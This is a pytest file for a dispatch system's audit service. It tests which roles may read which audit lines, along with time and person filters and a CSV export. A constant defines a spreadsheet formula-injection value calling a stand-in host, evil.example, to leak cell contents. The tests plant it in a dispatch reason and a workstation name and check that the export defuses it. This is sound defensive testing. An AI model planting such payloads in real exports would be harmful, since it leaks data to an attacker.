"""The audit trail through the services, on SQLite and PostgreSQL: who reads which part, filters, CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from argon2 import PasswordHasher
from sqlalchemy import text

from dispatch_desk.domain.access import SHIFT, Forbidden, Principal, Role
from dispatch_desk.domain.entities import Precinct, Unit
from dispatch_desk.domain.enums import Channel, LocationSource, Priority, UnitKind
from dispatch_desk.domain.errors import ValidationError
from dispatch_desk.domain.values import Location
from dispatch_desk.services.accounts import AccessKind, AccountService
from dispatch_desk.services.audit import AuditQuery, AuditService, Source, csv_bytes, safe_cell
from dispatch_desk.services.desk import CallDraft, DeskService
from tests.conftest import FakeClock

CHEAP = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
SYSTEM = Principal.for_system("test-setup")
PASSWORD = "correct-horse-battery"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def clock() -> FakeClock:
    # PostgreSQL's own policy gives a shift lead the last twelve hours by the server's clock
    return FakeClock(datetime.now(UTC).replace(microsecond=0))


@pytest.fixture
def centre(request, db, clock):
    workstation = getattr(request, "param", "desk-3")
    accounts = AccountService(db, clock=clock, hasher=CHEAP, workstation=workstation)
    people = {}
    for login, roles in (
        ("aigerim", [Role.OPERATOR]),
        ("erlan", [Role.SHIFT_LEAD]),
        ("asel", [Role.ADMIN]),
        ("gulnara", [Role.AUDITOR]),
        ("daniyar", [Role.ANTI_CORRUPTION]),
    ):
        accounts.add(SYSTEM, login, login.capitalize(), [r.value for r in roles], password=PASSWORD)
        people[login] = accounts.sign_in(login, PASSWORD).principal
    setup = DeskService(db, SYSTEM, clock=clock)
    setup.ensure_reference_data()
    ring = [[76.90, 52.28], [76.92, 52.28], [76.92, 52.30], [76.90, 52.30], [76.90, 52.28]]
    setup.replace_precincts(
        [Precinct("05", "Бесінші", "Пятый", "Fifth", {"type": "Polygon", "coordinates": [ring]})]
    )
    setup.add_unit(Unit("П-051", UnitKind.PATROL_CAR, "05"))

    def desk(login: str) -> DeskService:
        return DeskService(accounts.database_for(people[login]), people[login], clock=clock)

    return accounts, people, desk


def later(db, clock: FakeClock, **elapsed) -> None:
    """Let time pass. On SQLite the desk's clock moves; on PostgreSQL a person's feed rows and access lines
    carry the server's own time, which no caller sets, so the owner ages what was written instead."""
    if not db.is_postgresql:
        clock.advance(**elapsed)
        return
    seconds = timedelta(**elapsed).total_seconds()
    with db.engine.begin() as owner:
        for table in ("change_feed", "access_log"):
            owner.execute(text(f"UPDATE {table} SET at = at - make_interval(secs => :s)"), {"s": seconds})


def now_of(db, clock: FakeClock) -> datetime:
    return datetime.now(UTC) if db.is_postgresql else clock.now


def test_a_day_of_work_is_read_by_each_reader_as_they_may(centre, clock, db):
    accounts, people, desk = centre
    audit = AuditService(accounts, clock=clock)
    operator = desk("aigerim")
    old = operator.create_incident(
        CallDraft(
            Channel.PHONE,
            "theft",
            location=Location(52.29, 76.91, LocationSource.MAP),
            caller_name="Серік",
            caller_phone="87015550000",
        )
    )
    later(db, clock, hours=13)  # the previous shift
    call = operator.create_incident(
        CallDraft(
            Channel.PHONE,
            "theft",
            location=Location(52.29, 76.91, LocationSource.MAP),
            caller_name="Дана",
            caller_phone="87017778899",
        )
    )
    operator.open_incident(call.number)  # reads Дана's identity: an access line
    operator.dispatch(call.number, "П-051", reason=HOSTILE)
    desk("erlan").set_priority(call.number, Priority.LIFE_IN_DANGER, "a knife seen")
    secret = operator.create_incident(
        CallDraft(
            Channel.PHONE,
            "corruption_report",
            address="Абая 10",
            description="asked for money",
            caller_phone="87010000000",
        )
    )
    desk("daniyar").open_incident(secret.number)

    auditor = audit.read(people["gulnara"])
    assert not auditor.truncated and auditor.since is None
    about_call = [line for line in auditor.lines if line.subject == call.number]
    assert {(line.source, line.kind) for line in about_call} >= {
        (Source.CHANGE, "incident.created"),
        (Source.CHANGE, "incident.dispatched"),
        (Source.ACCESS, AccessKind.IDENTITY_VIEWED),
    }
    assert any(line.subject == old.number for line in auditor.lines)  # the whole trail
    assert all(line.subject != secret.number for line in auditor.lines) and not any(
        line.confidential for line in auditor.lines
    )
    assert [line.at for line in auditor.lines] == sorted((line.at for line in auditor.lines), reverse=True)
    who_looked = audit.read(
        people["gulnara"], AuditQuery(subject=call.number, sources=frozenset({Source.ACCESS}))
    )
    # the workstation named, and on PostgreSQL the address the server saw the line come from
    where = "desk-3 (127.0.0.1)" if db.is_postgresql else "desk-3"
    assert {(line.login, line.workstation) for line in who_looked.lines} == {("aigerim", where)}
    assert audit.read(people["gulnara"], AuditQuery(subject=call.number)).lines == about_call

    lead = audit.read(people["erlan"])  # one shift back only
    assert lead.since is not None and abs(lead.since - (now_of(db, clock) - SHIFT)) < timedelta(minutes=1)
    assert any(line.subject == call.number for line in lead.lines)
    assert all(line.subject != old.number for line in lead.lines)
    assert all(line.subject != secret.number for line in lead.lines)

    admin = audit.read(people["asel"])  # the changes of reference data, and the accesses
    assert all(
        line.kind.split(".")[0] not in ("incident", "unit")
        for line in admin.lines
        if line.source is Source.CHANGE
    )
    assert any(line.kind == "precinct.saved" for line in admin.lines)
    assert any(line.kind == AccessKind.IDENTITY_VIEWED for line in admin.lines)

    officer = audit.read(people["daniyar"])  # the confidential report's lines and nothing else
    assert officer.lines and {line.subject for line in officer.lines} == {secret.number}
    assert {line.source for line in officer.lines} == {Source.CHANGE, Source.ACCESS}

    with pytest.raises(Forbidden, match="audit"):
        audit.read(people["aigerim"])


def test_filters_by_person_and_time_and_a_limit(centre, clock, db):
    accounts, people, desk = centre
    audit = AuditService(accounts, clock=clock)
    numbers = []
    for _ in range(5):
        numbers.append(
            desk("aigerim").create_incident(CallDraft(Channel.PHONE, "theft", address="Абая 1")).number
        )
        later(db, clock, minutes=10)
    start = now_of(db, clock) - _minutes(50)  # when the first was made
    desk("erlan").set_priority(numbers[0], Priority.URGENT, "two callers")
    reader = people["gulnara"]
    changes = frozenset({Source.CHANGE})
    by_erlan = audit.read(reader, AuditQuery(login="erlan", sources=changes))
    assert [(line.login, line.subject) for line in by_erlan.lines] == [("erlan", numbers[0])]
    window = audit.read(
        reader, AuditQuery(since=start + _minutes(15), until=start + _minutes(35), sources=changes)
    )
    assert {line.subject for line in window.lines} == {numbers[2], numbers[3]}
    few = audit.read(reader, AuditQuery(limit=2, sources=changes))
    assert len(few.lines) == 2 and few.truncated
    with pytest.raises(ValidationError):
        AuditQuery(since=start, until=start)
    with pytest.raises(ValidationError):
        AuditQuery(limit=0)


def _minutes(n: int) -> timedelta:
    return timedelta(minutes=n)


@pytest.mark.parametrize("centre", [HOSTILE], indirect=True)  # a workstation named to attack
def test_the_csv_export_never_runs_a_formula_and_keeps_cyrillic(centre, clock):
    accounts, people, desk = centre
    operator = desk("aigerim")
    call = operator.create_incident(
        CallDraft(Channel.PHONE, "theft", address="Абая 1", caller_phone="87015550000")
    )
    operator.open_incident(call.number)
    desk("erlan").set_priority(call.number, Priority.URGENT, "свидетель видел нож")
    lines = AuditService(accounts, clock=clock).read(people["gulnara"]).lines
    assert any(line.workstation.startswith(HOSTILE) for line in lines)
    data = csv_bytes(lines, "Asia/Almaty")
    assert data.startswith(b"\xef\xbb\xbf")  # a byte-order mark: spreadsheets read UTF-8 right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["time", "source", "login"] and len(rows) == len(lines) + 1
    for row in rows[1:]:
        assert row[0].endswith("+05:00")  # local time, with its offset
        assert not any(cell.startswith(("=", "+", "-", "@", "|")) for cell in row[1:]), row
    assert any(row[3].startswith("'" + HOSTILE) for row in rows[1:])  # shown as the text it is
    assert any("свидетель видел нож" in row[7] for row in rows[1:])
    assert (
        safe_cell("=1+1") == "'=1+1"
        and safe_cell("-2+3") == "'-2+3"
        and safe_cell("-52.1") == "-52.1"
        and safe_cell("Айгерим") == "Айгерим"
    )
